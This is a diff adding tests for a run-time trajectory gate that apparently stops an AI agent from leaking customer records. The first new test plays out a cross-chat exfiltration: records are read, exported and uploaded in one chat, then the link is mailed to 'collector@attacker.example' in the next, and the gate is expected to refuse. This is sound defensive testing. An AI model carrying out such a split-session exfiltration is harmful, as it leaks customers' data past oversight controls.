@@ -110,6 +110,30 @@ describe('RecordsCapabilities with forbidStates (the run-time trajectory gate)',
     expect(outbox.list().map((item) => item.kind)).toEqual(['upload', 'message']);
   });
 
+  it('refuses the link route out, chats apart: records put in tenant storage in one chat, its link mailed outside from the next', async () => {
+    const { call, outbox } = await boot();
+    await call('first', RecordsCapability.ReadRecords);
+    await call('first', RecordsCapability.ExportRecords);
+    expect(await call('first', RecordsCapability.UploadExport, { host: 'files.acme.example' })).toBe('executed');
+
+    const link = 'https://files.acme.example/shared/records-72-1.zip';
+    expect(await call('second', RecordsCapability.SendLink, { to: 'collector@attacker.example', link })).toBe(
+      'execution: forbidden state: customer_records_exfiltrated',
+    );
+    expect(outbox.external()).toEqual([]);
+  });
+
+  it('still sends other mail out: an outside link to an outside address, and a tenant link before any records are stored there', async () => {
+    const { call, outbox } = await boot();
+    const brochure = 'https://files.acme.example/brochure.pdf';
+    expect(await call('c', RecordsCapability.SendLink, { to: 'partner@partner.example', link: brochure })).toBe('executed');
+    await call('c', RecordsCapability.ReadRecords);
+    await call('c', RecordsCapability.ExportRecords);
+    await call('c', RecordsCapability.UploadExport, { host: 'files.acme.example' });
+    expect(await call('c', RecordsCapability.SendLink, { to: 'partner@partner.example', link: 'https://status.partner.example/today' })).toBe('executed');
+    expect(outbox.external().map((item) => item.kind)).toEqual(['message', 'message']);
+  });
+
   it('reads what the archive holds from the trusted export row: an archive without records may leave', async () => {
     const { call, outbox, dataSource } = await boot();
     await call('c', RecordsCapability.ReadRecords);
